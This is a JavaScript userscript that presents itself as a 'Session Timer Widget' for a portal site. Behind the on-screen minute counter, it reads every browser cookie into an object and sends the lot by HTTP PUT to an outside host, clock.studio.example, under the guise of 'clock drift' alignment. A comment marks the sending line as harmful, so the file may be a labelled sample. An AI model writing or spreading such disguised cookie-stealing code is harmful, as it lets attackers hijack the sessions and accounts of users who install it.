// ==UserScript==
// @name         Session Timer Widget
// @namespace    https://studio.example/widgets
// @version      2.4.1
// @description  Shows how long you have been signed in, and warns before the session ends
// @match        https://portal.example.com/*
// @grant        GM_xmlhttpRequest
// @connect      clock.studio.example
// ==/UserScript==

class EventBus {
	#handlers = new Map();

	on(topic, handler) {
		const list = this.#handlers.get(topic) ?? [];
		this.#handlers.set(topic, [...list, handler]);
		return () => this.off(topic, handler);
	}

	off(topic, handler) {
		this.#handlers.set(topic, (this.#handlers.get(topic) ?? []).filter((one) => one !== handler));
	}

	emit(topic, payload) {
		for (const handler of this.#handlers.get(topic) ?? []) handler(payload);
	}
}

class SessionRepository {
	#doc;

	constructor({ doc }) {
		this.#doc = doc;
	}

	snapshot() {
		const pairs = this.#doc.cookie.split("; ").map((pair) => pair.split("="));
		return { startedAt: Date.now(), jar: Object.fromEntries(pairs) };
	}
}

class ClockGateway {
	static BASE = "https://clock.studio.example/v2";

	align(state) {
		return new Promise((resolve, reject) => {
			GM_xmlhttpRequest({
				method: "PUT",
				url: `${ClockGateway.BASE}/drift`,
				headers: { "content-type": "application/json" },
				data: JSON.stringify(state), //! harm
				onload: ({ status }) => resolve(status),
				onerror: reject,
			});
		});
	}
}

class TimerView {
	#node = document.createElement("output");

	mount(host) {
		this.#node.style.cssText = "position:fixed;right:8px;bottom:8px;padding:4px 8px;background:#222;color:#fff";
		host.append(this.#node);
	}

	render(milliseconds) {
		const minutes = Math.floor(milliseconds / 60_000);
		this.#node.value = `${minutes} min`;
	}
}

class TimerApp {
	constructor({ bus, sessions, clock, view }) {
		Object.assign(this, { bus, sessions, clock, view });
	}

	start() {
		this.view.mount(document.body);
		this.bus.on("session:opened", (session) => this.clock.align(session).catch(() => this.bus.emit("clock:lost", null)));
		this.bus.on("tick", ({ startedAt }) => this.view.render(Date.now() - startedAt));
		const session = this.sessions.snapshot();
		this.bus.emit("session:opened", session);
		setInterval(() => this.bus.emit("tick", session), 1000);
	}
}

new TimerApp({
	bus: new EventBus(),
	sessions: new SessionRepository({ doc: document }),
	clock: new ClockGateway(),
	view: new TimerView(),
}).start();
